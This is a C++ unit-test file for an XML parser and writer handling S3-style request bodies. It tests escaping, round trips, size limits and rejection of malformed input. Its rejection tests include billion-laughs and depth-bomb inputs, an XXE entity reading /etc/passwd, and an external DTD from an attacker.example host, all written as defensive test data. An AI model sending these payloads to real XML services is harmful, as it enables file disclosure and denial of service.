#include "xml/xml.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

#include "common/testing.h"

namespace dase::xml {
namespace {

constexpr std::string_view kDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

Node MustParse(std::string_view body, const ParseOptions& options = {}) {
  Result<Node> r = Parse(body, options);
  EXPECT_TRUE(r.ok()) << r.status().ToString() << "\n" << body;
  return r.ok() ? std::move(r).value() : Node{};
}

// Expects `body` to be rejected as InvalidArgument with an "xml: " message.
void ExpectRejected(std::string_view body, const ParseOptions& options = {}) {
  Result<Node> r = Parse(body, options);
  ASSERT_FALSE(r.ok()) << "accepted: " << body.substr(0, 200);
  EXPECT_EQ(r.status().code(), Code::kInvalidArgument) << r.status().ToString();
  EXPECT_TRUE(r.status().message().starts_with("xml: ")) << r.status().ToString();
}

std::string Repeat(std::string_view s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out.append(s);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Writer

TEST(XmlWriterTest, WritesS3StyleDocument) {
  XmlWriter w;
  w.Open("ListBucketResult", {{"xmlns", kS3Namespace}});
  w.Element("Name", "bucket");
  w.Element("Prefix", "");
  w.UintElement("MaxKeys", 1000);
  w.BoolElement("IsTruncated", false);
  w.Open("Contents");
  w.Element("Key", "a&b");
  w.Element("ETag", "\"9b2cf535f27731c974343645a3985328\"");
  w.Close();
  w.Close();
  EXPECT_TRUE(w.representable());
  EXPECT_EQ(w.Finish(),
            std::string(kDecl) +
                "<ListBucketResult xmlns=\"http://s3.amazonaws.com/doc/2006-03-01/\">"
                "<Name>bucket</Name><Prefix></Prefix><MaxKeys>1000</MaxKeys>"
                "<IsTruncated>false</IsTruncated><Contents><Key>a&amp;b</Key>"
                "<ETag>&quot;9b2cf535f27731c974343645a3985328&quot;</ETag></Contents>"
                "</ListBucketResult>");
}

TEST(XmlWriterTest, EscapesTextAndAttributes) {
  XmlWriter w;
  w.Open("R", {{"a", "<&>\"'\t\n\r"}});
  w.Element("T", "<&>\"'\t\n\r x");
  w.Close();
  EXPECT_TRUE(w.representable());
  EXPECT_EQ(w.Finish(), std::string(kDecl) +
                            "<R a=\"&lt;&amp;&gt;&quot;&apos;&#x9;&#xA;&#xD;\">"
                            "<T>&lt;&amp;&gt;&quot;&apos;\t\n&#xD; x</T></R>");
}

TEST(XmlWriterTest, WritesForbiddenControlCharactersAsReferencesAndFlagsThem) {
  XmlWriter w;
  w.Open("R");
  w.Element("Key", std::string("a\x01" "b\x1f" "c\0", 6));
  w.Close();
  EXPECT_FALSE(w.representable());
  const std::string doc = w.Finish();
  EXPECT_EQ(doc, std::string(kDecl) + "<R><Key>a&#x1;b&#x1F;c&#x0;</Key></R>");
  // XML 1.0 has no way to carry these: a conforming reader, ours included, rejects the result.
  ExpectRejected(doc);
}

TEST(XmlWriterTest, FlagsInvalidUtf8) {
  XmlWriter w;
  w.Open("R");
  w.Element("Key", "caf\xC3\xA9");
  EXPECT_TRUE(w.representable());
  w.Element("Key", "\xC3");
  EXPECT_FALSE(w.representable());
  w.Element("Key", "ok");
  EXPECT_FALSE(w.representable());  // sticky
  w.Close();
  ExpectRejected(w.Finish());
}

TEST(XmlWriterDeathTest, MisuseIsAProgrammerError) {
  EXPECT_DEATH(
      {
        XmlWriter w;
        w.Close();
      },
      "no open element");
  EXPECT_DEATH(
      {
        XmlWriter w;
        w.Open("A");
        w.Finish();
      },
      "still open");
  EXPECT_DEATH(
      {
        XmlWriter w;
        w.Element("A", "");
        w.Element("B", "");
      },
      "second root");
}

TEST(IsXmlTextTest, AcceptsXmlCharactersOnly) {
  EXPECT_TRUE(IsXmlText(""));
  EXPECT_TRUE(IsXmlText("plain key/with spaces\t\r\n"));
  EXPECT_TRUE(IsXmlText("\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\xEF\xBF\xBD\x7F"));
  EXPECT_FALSE(IsXmlText(std::string_view("\0", 1)));
  EXPECT_FALSE(IsXmlText("\x01"));
  EXPECT_FALSE(IsXmlText("\x0b"));
  EXPECT_FALSE(IsXmlText("\x1f"));
  EXPECT_FALSE(IsXmlText("\xFF"));
  EXPECT_FALSE(IsXmlText("\xC3"));              // truncated
  EXPECT_FALSE(IsXmlText("\xC0\xAF"));          // overlong '/'
  EXPECT_FALSE(IsXmlText("\xE0\x80\xAF"));      // overlong '/'
  EXPECT_FALSE(IsXmlText("\xED\xA0\x80"));      // U+D800, a surrogate
  EXPECT_FALSE(IsXmlText("\xEF\xBF\xBE"));      // U+FFFE
  EXPECT_FALSE(IsXmlText("\xEF\xBF\xBF"));      // U+FFFF
  EXPECT_FALSE(IsXmlText("\xF4\x90\x80\x80"));  // beyond U+10FFFF
}

// ---------------------------------------------------------------------------------------------
// Round trip

std::string RandomText(std::mt19937_64& rng) {
  static const std::vector<std::string_view> kPieces = {
      "a",  "Z",    "0",  " ",      "/",      "&",        "<",            ">",
      "\"", "'",    "\t", "\n",     "\r",     "\r\n",     "]]>",          "-->",
      "<!--", "&amp;", "&#x41;", "\xC3\xA9", "\xE2\x82\xAC", "\xF0\x9F\x98\x80", "\xEF\xBF\xBD",
      "\x7F", "\xC2\x85"};
  std::uniform_int_distribution<size_t> len(0, 40);
  std::uniform_int_distribution<size_t> pick(0, kPieces.size() - 1);
  std::string s;
  for (size_t n = len(rng); n > 0; --n) s.append(kPieces[pick(rng)]);
  return s;
}

TEST(XmlRoundTripTest, RandomTextSurvivesWriterAndReader) {
  std::mt19937_64 rng(dase::testing::TestSeed());
  for (int doc = 0; doc < 200; ++doc) {
    const std::string attr = RandomText(rng);
    std::vector<std::string> keys(std::uniform_int_distribution<size_t>(0, 50)(rng));
    for (std::string& k : keys) k = RandomText(rng);
    XmlWriter w;
    w.Open("ListBucketResult", {{"xmlns", kS3Namespace}, {"note", attr}});
    for (const std::string& k : keys) {
      w.Open("Contents");
      w.Element("Key", k);
      w.Close();
    }
    w.Close();
    ASSERT_TRUE(w.representable());
    const std::string body = w.Finish();
    Result<Node> root = Parse(body);
    ASSERT_TRUE(root.ok()) << root.status().ToString() << "\n" << body;
    EXPECT_EQ(root->name, "ListBucketResult");
    EXPECT_EQ(root->FindAttribute("xmlns"), kS3Namespace);
    EXPECT_EQ(root->FindAttribute("note"), attr);
    const std::vector<const Node*> contents = root->Children("Contents");
    ASSERT_EQ(contents.size(), keys.size());
    for (size_t i = 0; i < keys.size(); ++i) {
      EXPECT_EQ(contents[i]->ChildText("Key"), keys[i]) << "doc " << doc << " key " << i;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Reader: S3 request bodies

TEST(XmlReaderTest, CompleteMultipartUpload) {
  const Node root = MustParse(R"(<?xml version="1.0" encoding="UTF-8"?>
<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">
  <Part>
    <ChecksumCRC32>AAAAAA==</ChecksumCRC32>
    <ETag>&quot;a54357aff0632cce46d942af68356b38&quot;</ETag>
    <PartNumber>1</PartNumber>
  </Part>
  <Part>
    <PartNumber>2</PartNumber>
    <ETag>"0c78aef83f66abc1fa1e8477f296d394"</ETag>
    <ChecksumCRC32>NhCmhg==</ChecksumCRC32>
  </Part>
</CompleteMultipartUpload>
)");
  EXPECT_EQ(root.name, "CompleteMultipartUpload");
  EXPECT_EQ(root.prefix, "");
  EXPECT_EQ(root.FindAttribute("xmlns"), kS3Namespace);
  const std::vector<const Node*> parts = root.Children("Part");
  ASSERT_EQ(parts.size(), 2u);
  EXPECT_EQ(parts[0]->ChildText("PartNumber"), "1");
  EXPECT_EQ(parts[0]->ChildText("ETag"), "\"a54357aff0632cce46d942af68356b38\"");
  EXPECT_EQ(parts[0]->ChildText("ChecksumCRC32"), "AAAAAA==");
  EXPECT_EQ(parts[1]->ChildText("PartNumber"), "2");
  EXPECT_EQ(parts[1]->ChildText("ETag"), "\"0c78aef83f66abc1fa1e8477f296d394\"");
  EXPECT_EQ(parts[1]->ChildText("ChecksumCRC32"), "NhCmhg==");
  EXPECT_EQ(parts[1]->ChildText("ChecksumSHA256"), std::nullopt);
  EXPECT_EQ(root.Child("Part"), parts[0]);
  EXPECT_EQ(root.Child("Upload"), nullptr);
}

TEST(XmlReaderTest, DeleteWithQuietAndAThousandKeys) {
  std::string body = R"(<?xml version="1.0" encoding="UTF-8"?>)"
                     R"(<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">)"
                     "<Quiet>true</Quiet>";
  for (int i = 0; i < 1000; ++i) {
    body += "<Object><Key>dir/key-" + std::to_string(i) + "&amp;&lt;&#xD;</Key>";
    if (i % 3 == 0) body += "<VersionId>v" + std::to_string(i) + "</VersionId>";
    body += "</Object>";
  }
  body += "</Delete>";
  const Node root = MustParse(body);
  EXPECT_EQ(root.name, "Delete");
  EXPECT_EQ(root.ChildText("Quiet"), "true");
  const std::vector<const Node*> objects = root.Children("Object");
  ASSERT_EQ(objects.size(), 1000u);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_EQ(objects[i]->ChildText("Key"), "dir/key-" + std::to_string(i) + "&<\r");
    EXPECT_EQ(objects[i]->ChildText("VersionId").has_value(), i % 3 == 0);
  }
}

TEST(XmlReaderTest, CreateBucketConfiguration) {
  const Node root = MustParse(
      "<CreateBucketConfiguration xmlns=\"http://s3.amazonaws.com/doc/2006-03-01/\">\r\n"
      "   <LocationConstraint>eu-west-1</LocationConstraint>\r\n"
      "</CreateBucketConfiguration>\r\n");
  EXPECT_EQ(root.name, "CreateBucketConfiguration");
  EXPECT_EQ(root.ChildText("LocationConstraint"), "eu-west-1");
  EXPECT_EQ(root.text, "\n   \n");  // CR LF read as LF
}

TEST(XmlReaderTest, StripsNamespacePrefixes) {
  const Node root = MustParse(
      "<s3:Delete xmlns:s3='http://s3.amazonaws.com/doc/2006-03-01/'>"
      "<s3:Object><s3:Key>k</s3:Key></s3:Object><Object><Key>k2</Key></Object></s3:Delete>");
  EXPECT_EQ(root.name, "Delete");
  EXPECT_EQ(root.prefix, "s3");
  EXPECT_EQ(root.FindAttribute("xmlns:s3"), kS3Namespace);
  const std::vector<const Node*> objects = root.Children("Object");
  ASSERT_EQ(objects.size(), 2u);
  EXPECT_EQ(objects[0]->ChildText("Key"), "k");
  EXPECT_EQ(objects[1]->ChildText("Key"), "k2");
}

TEST(XmlReaderTest, AcceptsCommentsCDataReferencesAndBom) {
  const Node root = MustParse(
      "\xEF\xBB\xBF<?xml version='1.0' encoding='utf-8' standalone='yes' ?>\n"
      "<!-- before --><R  a = 'x\ty\r\nz' b=\"&lt;&#65;&#x42;\" >"
      "<!-- inside - with dash --><K><![CDATA[<&>]]]]><![CDATA[>\r\n]]></K>"
      "<E/><E /><U>&#233;&#x20AC;&#x1F600;&#13;&#10;&#9;</U>"
      "<T> spaced &apos;&quot;&gt; </T ></R>  <!-- after -->\n");
  EXPECT_EQ(root.name, "R");
  ASSERT_EQ(root.attributes.size(), 2u);
  EXPECT_EQ(root.attributes[0].name, "a");
  EXPECT_EQ(root.attributes[0].value, "x y z");  // attribute whitespace normalization
  EXPECT_EQ(root.FindAttribute("b"), "<AB");
  EXPECT_EQ(root.FindAttribute("c"), std::nullopt);
  EXPECT_EQ(root.ChildText("K"), "<&>]]>\n");
  EXPECT_EQ(root.Children("E").size(), 2u);
  EXPECT_EQ(root.ChildText("E"), "");
  EXPECT_EQ(root.ChildText("U"), "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\r\n\t");
  EXPECT_EQ(root.ChildText("T"), " spaced '\"> ");
}

TEST(XmlReaderTest, AcceptsLimitsExactly) {
  std::string deep;
  for (int i = 0; i < 32; ++i) deep += "<a>";
  for (int i = 0; i < 32; ++i) deep += "</a>";
  MustParse(deep);

  ParseOptions small;
  small.elements_max = 3;
  MustParse("<a><b/><c/></a>", small);
  ExpectRejected("<a><b/><c/><d/></a>", small);

  small.body_bytes_max = 7;
  MustParse("<a></a>", small);
  ExpectRejected("<a></a> ", small);

  const std::string name(256, 'n');
  MustParse("<" + name + "/>");
  ExpectRejected("<" + name + "n/>");
  ExpectRejected("<a " + name + "n='1'/>");

  std::string attrs;
  for (int i = 0; i < 32; ++i) attrs += " a" + std::to_string(i) + "='v'";
  MustParse("<r" + attrs + "/>");
  ExpectRejected("<r" + attrs + " z='v'/>");
}

// ---------------------------------------------------------------------------------------------
// Reader: rejections

TEST(XmlRejectTest, BillionLaughsDoctypeIsRejected) {
  ExpectRejected(R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>)");
}

TEST(XmlRejectTest, ExternalEntitiesAndAnyDtdAreRejected) {
  ExpectRejected(R"(<?xml version="1.0"?>)"
                 R"(<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"
                 R"(<Delete><Object><Key>&xxe;</Key></Object></Delete>)");
  ExpectRejected(R"(<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>)");
  ExpectRejected(R"(<!DOCTYPE foo><foo/>)");
  ExpectRejected(R"(<foo/><!DOCTYPE foo>)");
  ExpectRejected(R"(<foo><!DOCTYPE foo></foo>)");
  ExpectRejected(R"(<foo><!ENTITY x "y"></foo>)");
  ExpectRejected(R"(<!ENTITY x "y"><foo/>)");
  // Without a DTD no entity beyond the predefined five exists.
  ExpectRejected("<Delete><Object><Key>&xxe;</Key></Object></Delete>");
  ExpectRejected("<a b='&xxe;'/>");
  ExpectRejected("<a>&nbsp;</a>");
  ExpectRejected("<a>&;</a>");
  ExpectRejected("<a>&lt</a>");
  ExpectRejected("<a>&amp </a>");
  ExpectRejected("<a>& </a>");
  ExpectRejected("<a>&quotation;</a>");
}

TEST(XmlRejectTest, DepthBomb) {
  std::string deep;
  for (int i = 0; i < 33; ++i) deep += "<a>";
  for (int i = 0; i < 33; ++i) deep += "</a>";
  ExpectRejected(deep);
  ExpectRejected(Repeat("<a>", 1'000'000));
  ExpectRejected(Repeat("<a/>", 10));  // many roots
}

TEST(XmlRejectTest, TooManyElements) {
  ExpectRejected("<r>" + Repeat("<a/>", 20'000) + "</r>");
  MustParse("<r>" + Repeat("<a/>", 19'999) + "</r>");
}

TEST(XmlRejectTest, OversizedBody) {
  ExpectRejected("<r>" + std::string(4 * 1024 * 1024, 'x') + "</r>");
}

TEST(XmlRejectTest, UnclosedAndMismatchedTags) {
  for (const char* body :
       {"<a>", "<a><b></b>", "<a><b>", "<a></b>", "<a><b></a></b>", "<a></a:a>", "<x:a></a>",
        "<x:a></y:a>", "<a", "<a/", "<a b='1'", "<a></a", "<a></", "<a>text", "</a>",
        "<a></ a>", "<a><></a>", "<a>< b/></a>"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, BadCharacterReferences) {
  for (const char* body :
       {"<a>&#0;</a>", "<a>&#x0;</a>", "<a>&#1;</a>", "<a>&#x1F;</a>", "<a>&#xD800;</a>",
        "<a>&#xDFFF;</a>", "<a>&#55296;</a>", "<a>&#xFFFE;</a>", "<a>&#xFFFF;</a>",
        "<a>&#x110000;</a>", "<a>&#1114112;</a>", "<a>&#99999999999999999999999;</a>",
        "<a>&#xFFFFFFFFFFFFFFFF00000041;</a>", "<a>&#;</a>", "<a>&#x;</a>", "<a>&#12a;</a>",
        "<a>&#X41;</a>", "<a>&#-1;</a>", "<a>&#65</a>", "<a b='&#0;'/>"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, GarbageAroundTheRoot) {
  for (const char* body :
       {"", "   ", "text", "<a/>x", "<a/><b/>", "<a/>&amp;", "<a></a>]]>", "x<a/>",
        "<a/><![CDATA[x]]>", "<![CDATA[x]]><a/>", "<a/>\xEF\xBB\xBF"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, ProcessingInstructionsAndBadDeclarations) {
  for (const char* body :
       {"<?xml-stylesheet href='x'?><a/>", "<a><?pi x?></a>", "<a/><?pi?>",
        " <?xml version='1.0'?><a/>", "<?xml version='1.0'?><?xml version='1.0'?><a/>",
        "<?xml encoding='UTF-8'?><a/>", "<?xml version='2.0'?><a/>",
        "<?xml version='1.0' encoding='ISO-8859-1'?><a/>",
        "<?xml version='1.0' standalone='maybe'?><a/>",
        "<?xml version='1.0' standalone='yes' encoding='UTF-8'?><a/>",
        "<?xml version='1.0' bogus='1'?><a/>", "<?xml version='1.0'encoding='UTF-8'?><a/>",
        "<?xml version='1.0'", "<?xml version=1.0?><a/>", "<?xml ?><a/>"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, MalformedAttributes) {
  for (const char* body :
       {"<a b/>", "<a b=c/>", "<a b='c/>", "<a b=\"c'/>", "<a b='1'c='2'/>", "<a b='1' b='2'/>",
        "<a b='<'/>", "<a b='&'/>", "<a ='1'/>", "<a b:='1'/>", "<a :b='1'/>", "<a b c='1'/>",
        "<a b=='1'/>", "<a 1b='1'/>"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, MalformedNames) {
  for (const char* body : {"<1a/>", "<-a/>", "<:a/>", "<a:/>", "<a:b:c/>", "<.a/>", "< a/>"}) {
    ExpectRejected(body);
  }
}

TEST(XmlRejectTest, CharactersXmlForbids) {
  ExpectRejected("<a>\x01</a>");
  ExpectRejected(std::string_view("<a>\0</a>", 8));
  ExpectRejected("<a b='\x1b'/>");
  ExpectRejected("<a><!-- \x02 --></a>");
  ExpectRejected("<a>\xFF</a>");
  ExpectRejected("<a>\xC3</a>");
  ExpectRejected("<a>\xED\xA0\x80</a>");  // an encoded surrogate
  ExpectRejected("<a>\xEF\xBF\xBF</a>");  // U+FFFF
}

TEST(XmlRejectTest, MalformedCommentsCDataAndText) {
  for (const char* body :
       {"<a><!-- x -- y --></a>", "<a><!-- x ---></a>", "<a><!-- x </a>", "<!-- x",
        "<a><![CDATA[x</a>", "<a><![CDATA[x]]</a>", "<a>x]]>y</a>", "<a><!-></a>",
        "<a><![cdata[x]]></a>"}) {
    ExpectRejected(body);
  }
}

}  // namespace
}  // namespace dase::xml
